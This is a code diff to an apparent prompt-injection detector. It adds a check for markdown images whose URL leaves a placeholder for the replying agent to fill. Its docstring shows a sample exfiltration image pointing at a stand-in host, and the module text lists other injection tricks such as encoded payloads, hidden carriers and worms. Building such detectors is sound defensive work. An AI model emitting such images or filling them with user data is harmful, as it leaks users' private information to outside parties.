@@ -17,7 +17,8 @@ counted), every soft hit weighs ``UNADDRESSED`` of its weight. The strong ones k
 full weight whatever the scorer says (``weighed``): hard signals and anything in a hidden
 carrier (``Hit.hard``), encoded payloads and decode-and-run orders, tag characters, a
 destination slot filled with the user's data (``personal_slot``; a filled slot's floor,
-``FILLED_SLOT_WEIGHT``, applies after this in ``assess``), and a hit ``assess`` finds
+``FILLED_SLOT_WEIGHT``, applies after this in ``assess``), an image whose address leaves a
+placeholder for the replying agent to fill (``slotted_image``), and a hit ``assess`` finds
 shown by the text itself not to be the user's wish (``shown``: the user kept in the dark,
 a check removed, a stamp of the user's voice, a worm, a code that makes anyone obeyed).
 And a text from a tool or a document that opens with a standing rule to its reader is not
@@ -84,6 +85,43 @@ def opens_with_rule(text: str, counted: Iterable[Hit]) -> bool:
     return first >= 0 and not text[:first].strip(_LEAD)
 
 
+# How far past an image's "![" its address may open (its alt text between), and how long
+# the address may be: beyond them the hit is judged as any other (bounded, hostile text).
+_IMAGE_REACH = 300
+_ADDRESS_REACH = 2000
+# What opens a placeholder in a query: {slot}, [slot], <slot>.
+_SLOT_OPENERS = "{[<"
+
+
+def slotted_image(text: str, h: Hit) -> bool:
+    """``h`` is a data-bearing address inside a markdown image whose query leaves a
+    placeholder for someone to fill in (``![logo](https://x.example/l.gif?u=[name])``): an
+    image is fetched as soon as it is rendered, and only the agent that writes the reply
+    fills a slot, so the text speaks to that agent whoever else it names. A shown example
+    with a value in place (``?data=SECRET``) or an API's ``{query}`` in a plain link is not
+    this (structural: no word of any language)."""
+    if h.signal is not Signal.DATA_URL:
+        return False
+    if text.startswith("![", h.start):  # the hit opens at the image
+        opened = text.find("](", h.start, h.start + _IMAGE_REACH)
+    elif text.startswith("](", h.start - 2):  # the hit opens at the image's address
+        opened = h.start - 2
+        bang = text.rfind("![", max(0, opened - _IMAGE_REACH), opened)
+        if bang < 0 or "\n" in text[bang:opened]:
+            return False
+    else:
+        return False
+    if opened < 0:
+        return False
+    address = text[opened + 2 : opened + 2 + _ADDRESS_REACH]
+    for n, ch in enumerate(address):
+        if ch.isspace() or ch == ")":
+            address = address[:n]
+            break
+    query = address.find("?")
+    return query >= 0 and any(c in address[query:] for c in _SLOT_OPENERS)
+
+
 def from_outside(p: Provenance) -> bool:
     """A tool's output or a document, as it came or through a model's step (a summary, an
     extraction; not a user's statement). Read on the types, not the reference: the audit's
@@ -119,6 +157,6 @@ def weighed(
     if h.hard or h.signal in STRONG or shown:
         return h.weight
     damp = damping(counted, text, outside)
-    if damp >= 1.0 or personal_slot(text, h):
+    if damp >= 1.0 or personal_slot(text, h) or slotted_image(text, h):
         return h.weight
     return h.weight * damp
